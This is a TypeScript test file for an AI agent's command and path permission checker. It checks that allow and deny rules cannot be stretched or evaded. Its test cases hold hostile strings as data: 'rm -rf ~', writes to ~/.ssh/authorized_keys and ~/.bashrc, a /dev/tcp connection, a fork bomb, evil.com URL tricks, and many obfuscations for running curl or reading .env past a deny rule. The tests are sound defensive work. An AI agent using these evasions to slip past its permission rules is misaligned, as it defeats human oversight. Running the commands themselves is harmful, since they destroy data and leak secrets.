import { mkdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { limits } from '../../src/model/limits.ts'
import { permitted, permittedCommand } from '../support/permissions.ts'
import { folderWith } from '../support/workspace.ts'

// An agent that knows the permission rules words its calls so that an `allow` covers more than it says, or a `deny` less.

describe('an `allow` entry', () => {
  const allow = { allow: ['Bash(git *)', 'Bash(npm run test)', 'Bash(echo *)', 'Bash(cat *)', 'Bash(timeout *)'] }

  it.each([
    ['a second command', 'git status; rm -rf ~'],
    ['a second command behind &&', 'git status && curl x'],
    ['a second command on another line', 'git status\nrm x'],
    ['a command in the background', 'git status & rm x'],
    ['a pipe', 'git log | tee x'],
    ['a pipe into a shell', 'echo rm -rf x | sh'],
    ['a pipe into a shell that is allowed as well', 'echo x | git x | bash'],
    ['a command substitution', 'git commit -m "$(rm x)"'],
    ['backticks', 'git commit -m `rm x`'],
    ['a process substitution', 'git diff <(rm x)'],
    ['a substitution in an assignment', 'X=$(rm x) git status'],
    ['an assignment', 'GIT_SSH_COMMAND=./x git fetch'],
    ['an assignment alone', 'PATH=.; git status'],
    ['a redirection to a file', 'git log > ~/.bashrc'],
    ['an appending redirection', 'echo x >> ~/.ssh/authorized_keys'],
    ['a redirection from a file', 'git apply < x'],
    ['a redirection of both outputs', 'git log &> x'],
    ['a connection of bash', 'cat x > /dev/tcp/h/1'],
    ['a heredoc', 'git apply <<E\nx\nE'],
    ['a wrapper that is not allowed', 'sudo git status'],
    ['a wrapper of another command', 'timeout 5 rm x'],
    ['another user', 'sudo -u other git status'],
    ['another machine', 'ssh host git status'],
    ['a variable', 'git $ACTION'],
    ['a variable in quotes', 'git "$ACTION"'],
    ['a pattern', 'git add *'],
    ['a program in another folder', './git status'],
    ['a program in another folder, absolute', '/tmp/git status'],
    ['a program from a variable', '$GIT status'],
    ['words in one quoted word', "npm 'run test'"],
    ['one word in place of two', 'npm "run" "test x"'],
    ['a longer command', 'npm run test -- --update'],
    ['a shorter command', 'npm run'],
    ['a function of that name', 'git() { rm x; }; git status'],
    ['an alias of that name', 'alias git=rm; git x'],
    ['eval', 'eval git status'],
    ['a trap', "trap 'rm x' EXIT; git status"],
    ['a condition', 'if git status; then rm x; fi'],
    ['a loop over unknown words', 'for x in $(cat list); do git "$x"; done'],
    ['a comment that ends', 'git status # x\nrm x'],
    ['an ANSI-C escape', "git status$'\\n'; rm x"],
    ['a syntax error', 'git status "'],
    ['a `cd` out of the workspace', 'cd / && git status'],
    ['a `cd` to an unknown folder', 'cd $X && git status'],
    ['a `cd` back', 'cd - && git status'],
    ['a NUL character', 'npm\0run\0test'],
  ])('does not cover %s', async (_, command) => {
    expect(await permittedCommand(allow, command)).not.toBe('allow')
  })

  it.each([
    ['another user', 'sudo git status'],
    ['another machine', 'ssh host git status'],
    ['a container', 'docker exec c git status'],
    ['a shell that is fed', 'echo git status | bash'],
    ['a shell that is fed something unknown', 'cat x | bash'],
    ['code that a shell decodes', 'bash -c "$(cat x)"'],
    ['words that xargs adds', 'cat x | xargs git'],
    ['another command in a shell', 'bash -c "git status; rm x"'],
    ['a command of inline code', `python3 -c 'import os; os.system("rm x")'`],
    ['inline code of which a part is unknown', `python3 -c 'import os; os.system(input())'`],
    ['words that come from a loop', 'for f in *; do git "$f"; done'],
    ['a shell with an endless number of others', ':(){ :|:& };:'],
  ])('does not cover %s, even where the wrapper is allowed too', async (_, command) => {
    const wrappers = ['sudo', 'ssh', 'docker', 'bash', 'xargs', 'python3', ':']
    const lists = { allow: [...allow.allow, ...wrappers.map((name) => `Bash(${name} *)`)] }
    expect(await permittedCommand(lists, command)).not.toBe('allow')
  })

  it.each(['directory', 'dir_path', 'workdir', 'cwd'])(
    'does not cover a command in a folder named by `%s`',
    async (key) => {
      const call = { name: 'Bash', command: 'git status', input: { command: 'git status', [key]: '/tmp/x' } }
      expect((await permitted(allow, call)).decision).toBe('abstain')
    },
  )

  it('covers no command that is too long to be judged', async () => {
    const command = `echo ${'x '.repeat(limits.conditionSubjectCharactersMax)}`
    expect(await permittedCommand(allow, command)).toBe('abstain')
  })

  it('covers no command when its pattern takes too long', async () => {
    const slow = { allow: [`Bash(echo ${'*a'.repeat(1900)})`] }
    expect(await permittedCommand(slow, `echo ${'a'.repeat(30_000)}`)).toBe('abstain')
  })

  it('covers a line of commands only if it covers each of them', async () => {
    const parts = fc.constantFrom('git status', 'npm run test', 'echo a b', 'rm x', 'git $X', 'X=1 git x', 'echo >f')
    const good = new Set(['git status', 'npm run test', 'echo a b'])
    await fc.assert(
      fc.asyncProperty(
        fc.array(parts, { minLength: 1, maxLength: 4 }),
        fc.constantFrom(' && ', '; ', ' | ', '\n', ' || '),
        async (commands, between) => {
          const decision = await permittedCommand(allow, commands.join(between))
          expect(decision === 'allow').toBe(commands.every((one) => good.has(one)))
        },
      ),
      { numRuns: 60 },
    )
  })

  describe('for paths', () => {
    const linked = () => {
      const root = folderWith({ 'src/a.ts': '', 'secret/key': '' })
      symlinkSync(join(root, 'secret'), join(root, 'src/link'))
      mkdirSync(join(root, 'other'))
      symlinkSync(join(root, 'src'), join(root, 'other/link'))
      return root
    }
    const decide = async (name: string, path: string, more: { root: string; cwd?: string }, rule = 'Edit(/src/**)') =>
      (await permitted({ allow: [rule] }, { name, path, ...more })).decision

    it('does not cover a link that leads elsewhere, nor one from elsewhere', async () => {
      const root = linked()
      expect(await decide('Write', join(root, 'src/a.ts'), { root })).toBe('allow')
      expect(await decide('Write', join(root, 'src/link/key'), { root })).toBe('abstain')
      expect(await decide('Write', join(root, 'other/link/a.ts'), { root })).toBe('abstain')
    })

    it('does not follow the agent’s `cd` out of the workspace', async () => {
      const root = linked()
      expect(await decide('Write', '/etc/src/a', { root, cwd: '/etc' }, 'Edit(./src/**)')).toBe('abstain')
      expect(await decide('Write', '/etc/passwd', { root, cwd: '/etc' }, 'Edit(**/passwd)')).toBe('abstain')
      expect(await decide('Write', '/etc/passwd', { root, cwd: '/etc' }, 'Edit(passwd)')).toBe('abstain')
    })

    it('does not cover a way out, another case, or another kind of access', async () => {
      const root = linked()
      expect(await decide('Write', join(root, 'src/../x'), { root })).toBe('abstain')
      expect(await decide('Write', join(root, 'SRC/a.ts'), { root })).toBe('abstain')
      expect(await decide('Write', join(root, 'src/a.ts'), { root }, 'Read(/src/**)')).toBe('abstain')
      expect(await decide('Bash', join(root, 'src/a.ts'), { root })).toBe('abstain')
    })
  })

  it.each(['https://example.com@evil.com/', 'https://evil.com/https://example.com', 'http://example.com\\@evil.com'])(
    'for a domain does not cover %s',
    async (url) => {
      const decision = (await permitted({ allow: ['WebFetch(domain:example.com)'] }, { name: 'WebFetch', url }))
        .decision
      expect(decision).toBe('abstain')
    },
  )
})

describe('a `deny` entry', () => {
  const deny = { deny: ['Bash(curl *)', 'Read(./.env)'] }

  it.each([
    ['quotes', "cu'r'l x"],
    ['an escape', 'c\\url x'],
    ['a variable', 'X=curl; $X x'],
    ['a path', '/usr/bin/curl x'],
    ['a wrapper', 'env -i nice nohup curl x'],
    ['xargs', 'echo x | xargs curl'],
    ['find', 'find . -exec curl {} +'],
    ['a shell in a shell', `bash -c "sh -c 'curl x'"`],
    ['a substitution', 'echo `curl x`'],
    ['eval', 'eval "cu""rl x"'],
    ['a function', 'f() { curl "$@"; }; f x'],
    ['an alias', 'alias g=curl; g x'],
    ['a heredoc', 'bash <<E\ncurl x\nE'],
    ['python', `python3 -c 'import subprocess; subprocess.run(["curl", "x"])'`],
    ['node', `node -e 'require("child_process").execSync("curl x")'`],
    ['brackets', 'c[u]rl x'],
  ])('on a command is not evaded by %s', async (_, command) => {
    expect(await permittedCommand(deny, command)).toMatch(/deny|ask/)
  })

  it.each([
    ['quotes', "cat .e'n'v"],
    ['a way round', 'cat src/../.env'],
    ['a variable', 'F=.env; cat $F'],
    ['a part in a variable', 'cat .$X'],
    ['a pattern', 'cat .en?'],
    ['a redirection', 'while read x; do echo $x; done < .env'],
    ['a copy', 'cp .env x'],
    ['tar', 'tar cf - .env'],
    ['git', 'git diff --no-index /dev/null .env'],
    ['another case', 'cat .ENV'],
    ['inline code', `python3 -c 'print(open(".env").read())'`],
    ['a folder', 'tar cf - .'],
  ])('on a path is not evaded by %s', async (_, command) => {
    expect(await permittedCommand(deny, command)).toMatch(/deny|ask/)
  })

  it('on a path is not evaded by a link', async () => {
    const root = folderWith({ '.env': '', 'src/x': '' })
    symlinkSync(join(root, '.env'), join(root, 'src/harmless'))
    expect((await permitted(deny, { name: 'Read', path: join(root, 'src/harmless'), root })).decision).toBe('deny')
    expect((await permitted(deny, { name: 'Bash', command: 'cat src/harmless', root })).decision).toBe('deny')
  })
})

describe('the permission rules of an untrusted file', () => {
  it('keep nobody waiting: a list that takes too long asks', async () => {
    const slow = { deny: Array.from({ length: 100 }, () => `Bash(${'*a'.repeat(2000)}b)`) }
    const call = { name: 'Bash', command: `echo ${'a'.repeat(10_000)}` }
    const verdict = await permitted(slow, call, { untrustedReason: 'it came with the workspace' })
    expect(verdict).toMatchObject({ decision: 'ask', reason: expect.stringContaining('too long') })
  })
})
